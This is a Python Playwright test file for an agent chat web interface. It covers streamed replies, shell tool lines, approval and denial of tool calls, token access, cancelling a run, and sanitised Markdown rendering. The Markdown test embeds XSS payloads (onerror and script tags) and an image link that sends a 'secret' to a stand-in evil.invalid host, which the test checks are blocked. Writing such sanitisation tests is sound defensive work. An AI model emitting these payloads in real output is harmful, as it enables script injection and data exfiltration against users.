"""Chat in a real browser: streamed reply, tool lines, locked input, history after refresh,
approvals, and the access page."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import expect

from tests.web.app_page import LOCKED, App

pytestmark = [pytest.mark.browser, pytest.mark.slow]

FINAL = "The shell greeted us. Everything in the workspace is in order, and the task is done."


def test_streamed_reply_tool_lines_locked_input_and_history_after_refresh(serve, new_page, shot):
    server = serve(
        [
            {
                "text": "Let me check the workspace.",
                "tool_calls": [
                    {"name": "shell", "input": {"command": "echo hello from the shell"}}
                ],
            },
            {"text": FINAL, "sleep": 1.0},
        ]
    )
    app = App(new_page(), server).open()
    page = app.page

    # The token moved from the address bar into localStorage.
    assert "token=" not in page.url
    assert page.evaluate("localStorage.getItem('xclaw_token')") == server.token
    expect(page.locator(".empty-state")).to_be_visible()
    expect(app.status).to_have_text("New")  # session states in words
    shot(page, "01-new-session")

    # Shift+Enter is a new line, not a send.
    box = page.locator("#input")
    box.fill("Say hello")
    box.press("Shift+Enter")
    box.press_sequentially("from the shell")
    assert box.input_value() == "Say hello\nfrom the shell"
    expect(page.locator("#messages .msg.user")).to_have_count(0)

    box.press("Enter")
    expect(page.locator("#messages .msg.user").first).to_have_text("Say hello\nfrom the shell")
    # While the run is in flight (the model "thinks" for a second) input is locked.
    expect(page.locator("#composer")).to_have_class(LOCKED)
    expect(page.locator("#composer .send")).to_be_disabled()
    expect(page.locator("#composer .stop")).to_be_visible()
    expect(app.status).to_contain_text("Running")
    box.fill("a second message")
    box.press("Enter")
    expect(page.locator("#messages .msg.user")).to_have_count(1)  # not sent
    tool = app.tool_lines().first
    expect(tool).to_contain_text("xclaw uses [shell]")
    expect(tool).to_contain_text("echo hello from the shell")
    expect(tool).to_have_attribute("data-state", "completed")
    expect(tool.locator(".tool-output")).to_contain_text("hello from the shell")
    shot(page, "02-run-in-flight")

    final = page.locator("#messages .msg.assistant.final")
    expect(final).to_have_text(FINAL)
    app.wait_idle()
    expect(app.status).to_have_text("Success")
    # The reply arrived as a stream of deltas that add up to the final text.
    deltas = "".join(f["content"] for f in app.frames_of("delta"))
    assert len(app.frames_of("delta")) >= 3
    assert deltas.endswith(FINAL)
    # The trace shows user input -> LLM call -> tool call, then the second LLM call.
    expect(page.locator("#trace .trace-node")).to_have_count(4)
    app.expect_step_ids(["s0001", "s0002", "s0003", "s0004"])
    expect(app.step("s0003").locator(":scope > .trace-row")).to_contain_text("shell")
    app.open_step("s0003")
    expect(app.step("s0003").locator(".trace-detail")).to_contain_text(
        '"command": "echo hello from the shell"'
    )
    # The session got its first task as title, in the sidebar and the header.
    expect(page.locator(".session-item.active .session-title")).to_contain_text(
        "Say hello from the shell"
    )
    shot(page, "03-reply-and-trace")

    sid = app.session_id()
    app.reload()
    assert app.session_id() == sid
    expect(page.locator(".restored-start")).to_contain_text("Restored history")
    expect(page.locator("#messages .msg.user.restored")).to_have_text("Say hello\nfrom the shell")
    expect(page.locator("#messages .msg.assistant.restored").last).to_contain_text(FINAL)
    expect(page.locator("#messages .tool-line.restored")).to_contain_text("xclaw uses [shell]")
    expect(page.locator("#messages .tool-line.restored .tool-output")).to_contain_text(
        "hello from the shell"
    )
    expect(app.status).to_have_text("Success")
    expect(page.locator("#trace .trace-node")).to_have_count(4)
    # The original tutorial's wire format still arrives: `content` is the JSON string of the
    # history.
    history = app.frames_of("history")[0]
    assert '"role": "user"' in history["content"] or '"role":"user"' in history["content"]
    shot(page, "04-history-after-refresh")


def test_approve_and_deny(serve, new_page, shot):
    server = serve(
        [
            {
                "text": "I will create the file.",
                "tool_calls": [{"name": "shell", "input": {"command": "touch approved.txt"}}],
            },
            {"text": "Created approved.txt."},
            {
                "text": "Creating the second file.",
                "tool_calls": [{"name": "shell", "input": {"command": "touch denied.txt"}}],
            },
            {"text": "Understood: I did not create denied.txt."},
        ]
    )
    app = App(new_page(), server).open()
    page = app.page

    app.send("create approved.txt")
    dialog = app.dialog()
    expect(dialog).to_contain_text("Approve this tool call?")
    expect(dialog).to_contain_text("touch approved.txt")
    expect(dialog.locator(".warning")).to_have_count(0)  # a first attempt: no "may have run"
    expect(app.status).to_contain_text("Paused")
    expect(page.locator("#composer .send")).to_be_disabled()
    shot(page, "05-approval-dialog")
    dialog.get_by_role("button", name="Approve").click()
    expect(page.locator("#messages .msg.assistant.final").last).to_have_text(
        "Created approved.txt."
    )
    app.wait_idle()
    assert (server.workspace(app.session_id()) / "approved.txt").exists()

    app.send("now create denied.txt")
    expect(app.dialog()).to_contain_text("touch denied.txt")
    page.keyboard.press("n")  # the terminal client's y/n works here too
    expect(app.dialog()).to_have_count(0)
    expect(page.locator("#input")).to_have_value("")  # the "n" did not leak into the message box
    expect(page.locator("#messages .msg.assistant.final").last).to_have_text(
        "Understood: I did not create denied.txt."
    )
    denied = app.tool_lines().last
    expect(denied).to_have_attribute("data-state", "failed")
    expect(denied).to_contain_text("Not run")
    assert not (server.workspace(app.session_id()) / "denied.txt").exists()
    # Both decisions are in the trace as approval steps.
    approvals = page.locator('#trace .trace-node[data-type="system_alert"]')
    expect(approvals).to_have_count(2)
    expect(approvals.first).to_contain_text("approved")
    expect(approvals.last).to_contain_text("denied")
    shot(page, "06-approved-and-denied")


def test_missing_and_wrong_token_show_the_access_page(serve, new_page, shot):
    server = serve([{"text": "hi"}])
    page = new_page()
    page.goto(f"{server.http}/")
    access = page.locator("#access")
    expect(access).to_be_visible()
    expect(access).to_contain_text("Open xclaw with its access link")
    expect(access).to_contain_text("xclaw serve")
    expect(page.locator("#app")).to_be_hidden()
    shot(page, "07-access-missing-token")

    page.goto(f"{server.http}/?token=not-the-token")
    expect(access).to_be_visible()
    expect(page.locator("#access-reason")).to_contain_text("missing or wrong")
    assert "token=" not in page.url
    shot(page, "08-access-wrong-token")

    # Pasting the right token lets the user in.
    page.locator("#token-input").fill(server.token)
    page.get_by_role("button", name="Continue").click()
    expect(page.locator("#app")).to_be_visible()
    expect(page.locator("#conn")).to_have_attribute("data-state", "open")


def test_stop_cancels_the_run_and_unlocks_input(serve, new_page, shot):
    server = serve(
        [
            {
                "text": "Taking a nap.",
                "tool_calls": [{"name": "shell", "input": {"command": "sleep 60"}}],
            },
            {"text": "This answer is never reached."},
        ]
    )
    app = App(new_page(), server).open()
    page = app.page
    app.send("sleep a bit")
    expect(app.tool_lines().first).to_have_attribute("data-state", "running")
    page.get_by_role("button", name="Stop").click()
    # The command is stopped now (not after its 60 s), its step is recorded failed
    # "cancelled by the user", and the session waits for the next instruction, not Failed.
    expect(app.messages).to_contain_text("[cancel] run stopped", timeout=15_000)
    app.wait_idle()
    expect(page.locator("#composer .stop")).to_be_hidden()
    expect(app.tool_lines().first).to_have_attribute("data-state", "failed")
    expect(app.tool_lines().first).to_contain_text("cancelled by the user")
    expect(app.status).to_have_text("Waiting for your instruction")
    expect(page.locator(".session-item.active .session-meta")).to_contain_text(
        "Waiting for your instruction"
    )
    shot(page, "cancelled-waiting")
    expect(app.messages).not_to_contain_text("This answer is never reached.")


MARKDOWN_ANSWER = (
    "Here is **bold**, *italic* and `code`.\n\n"
    "- first\n- second\n\n"
    "| tool | runs |\n|---|---|\n| shell | 2 |\n\n"
    "```python\nprint('hi')\n```\n\n"
    "[docs](https://example.invalid/docs) <img src=x onerror=alert(1)> "
    "![leak](https://evil.invalid/?q=secret) <script>alert(2)</script>"
)


def test_answers_render_markdown_sanitised_with_a_copy_button(serve, new_page, shot):
    """Answers are Markdown (bold, lists, tables, code with a copy button) through
    the vendored marked + DOMPurify; hostile HTML and images never reach the page, and the
    page requests nothing outside the server."""
    server = serve([{"text": MARKDOWN_ANSWER}])
    page = new_page()
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    app = App(page, server).open()
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    app.send_and_wait("show me markdown", "Here is bold")
    answer = page.locator("#messages .msg.assistant.final .markdown")
    expect(answer.locator("strong")).to_have_text("bold")
    expect(answer.locator("em")).to_have_text("italic")
    expect(answer.locator("ul > li")).to_have_count(2)
    expect(answer.locator("table th").first).to_have_text("tool")
    expect(answer.locator("table td").first).to_have_text("shell")
    expect(answer.locator(".code-block pre.answer-code")).to_contain_text("print('hi')")
    link = answer.locator("a", has_text="docs")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(link).to_have_attribute("target", "_blank")
    expect(answer.locator("img, script")).to_have_count(0)
    expect(answer).to_contain_text("<img src=x onerror=alert(1)>")  # HTML shows as text
    answer.locator(".copy-code").click()
    expect(answer.locator(".copy-code")).to_have_text("Copied")
    assert page.evaluate("navigator.clipboard.readText()") == "print('hi')"
    # After a refresh the restored answer is rendered the same way.
    app.reload()
    expect(page.locator("#messages .msg.assistant .markdown table")).to_have_count(1)
    assert not dialogs
    assert all(u.startswith((server.http, "ws://")) for u in requests), [
        u for u in requests if not u.startswith(server.http)
    ]
    shot(page, "markdown")


def test_a_command_listing_that_wraps_keeps_its_columns(serve, new_page, shot):
    """/help in a chat column narrower than its lines: a description that wraps goes on under
    its own column (a hanging indent), not back at the left edge under the command names."""
    server = serve([{"text": "Hi."}])
    app = App(new_page(), server).open()
    page = app.page
    app.send("/help")
    notice = page.locator("#messages .notice", has_text="/rollback")
    expect(notice).to_have_count(1)
    expect(notice).to_contain_text("/steps [N]")
    lines = notice.locator(".notice-line")
    row = lines.filter(has_text=re.compile(r"/rollback sNNNN\s+rewind"))  # not --retry's
    # The row wraps (the column is narrower than it); its second line starts where the
    # description starts.
    geometry = row.evaluate(
        """e => { const t = e.firstChild; const r = document.createRange();
                  const box = (i) => { r.setStart(t, i); r.setEnd(t, i + 1); return r.getBoundingClientRect(); };
                  const top = box(0).top; const text = t.textContent;
                  let wrapped = null;
                  for (let i = 1; i < text.length; i++) {
                    const b = box(i);
                    if (text[i].trim() && b.top > top + 2) { wrapped = Math.round(b.left); break; }
                  }
                  return {wrapped, desc: Math.round(box(text.indexOf('rewind')).left)}; }"""
    )
    assert geometry["wrapped"] is not None, geometry  # at 1280 px with the trace open, it wraps
    assert abs(geometry["wrapped"] - geometry["desc"]) <= 1, geometry  # under its column
    shot(page, "help-columns")


def test_a_code_block_s_lines_start_in_one_column(serve, new_page, shot):
    """The first line of a fenced code block starts where the others do (the inline-code
    padding must not shift it)."""
    server = serve(
        [
            {
                "text": "Code:\n\n```python\nprint('hi, a longer first line')\nfor i in range(3):\n    print(i)\n```\n\nand `inline`."
            }
        ]
    )
    app = App(new_page(), server).open()
    page = app.page
    app.send_and_wait("code please", "and")
    pre = page.locator("#messages .msg.assistant.final pre.answer-code")
    lefts = pre.evaluate(
        """e => { const t = e.querySelector('code').firstChild; const r = document.createRange();
                  const at = (i) => { r.setStart(t, i); r.setEnd(t, i + 1); return Math.round(r.getBoundingClientRect().left); };
                  const text = t.textContent; return [at(0), at(text.indexOf('for'))]; }"""
    )
    assert lefts[0] == lefts[1], lefts
    # The Copy button covers no code: not even the end of the longest (first) line.
    code = page.locator("#messages .msg.assistant.final pre.answer-code code")
    text_box = code.evaluate(
        """e => { const r = document.createRange(); r.selectNodeContents(e);
                  const b = r.getClientRects()[0]; return {right: b.right, top: b.top, bottom: b.bottom}; }"""
    )
    button = page.locator("#messages .msg.assistant.final .copy-code").bounding_box()
    overlaps_rows = (
        button["y"] < text_box["bottom"] and button["y"] + button["height"] > text_box["top"]
    )
    assert not overlaps_rows or button["x"] >= text_box["right"], (button, text_box)
    shot(page, "code-block")
